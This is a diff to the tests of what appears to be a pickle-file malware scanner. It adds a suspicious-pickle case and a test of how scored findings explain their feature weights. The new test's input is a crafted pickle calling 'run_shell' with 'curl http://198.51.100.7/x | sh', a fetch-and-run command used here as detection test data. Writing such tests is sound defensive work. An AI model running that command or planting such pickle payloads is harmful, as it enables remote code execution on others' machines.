@@ -40,14 +40,27 @@ def test_a_report_says_what_was_scanned(tmp_path: Path) -> None:
         (pickle.dumps(pickle.PickleError("x")), "model", Verdict.CLEAN),
         (HOSTILE, "execution", Verdict.MALICIOUS),
         (b"\x80\x04]\x94(K\x01", "fault", Verdict.UNSCANNABLE),
+        (b"\x80\x02\x82\x01.", "rule", Verdict.SUSPICIOUS),
     ],
-    ids=["inert", "model", "execution", "fault"],
+    ids=["inert", "model", "execution", "fault", "rule"],
 )
 def test_a_stream_says_what_decided(data: bytes, decided_by: str, verdict: Verdict) -> None:
     """The two proofs, the model and a fault each leave their name."""
     report = scan_bytes(data)
     assert [(stream.decided_by, stream.verdict) for stream in report.streams] == [(decided_by, verdict)]
     assert report.verdict == verdict
+
+
+def test_a_score_says_what_raised_it() -> None:
+    """The features of a scored finding stand in its message and, with their weights, in the JSON form."""
+    report = scan_bytes(b"cmy_kit\nrun_shell\n(S'curl http://198.51.100.7/x | sh'\ntR.")
+    (finding,) = (found for found in report.reasons if found.code == "call.score")
+    assert finding.to_dict()["contributions"] == [list(part) for part in finding.contributions]
+    weights = [weight for _, weight in finding.contributions]
+    assert weights == sorted(weights, reverse=True)
+    assert len(weights) > 1
+    for feature, weight in finding.contributions:
+        assert f"{feature.replace('_', ' ')} +{weight:.1f}" in finding.message
 
 
 def test_a_file_is_as_bad_as_its_worst_stream() -> None:
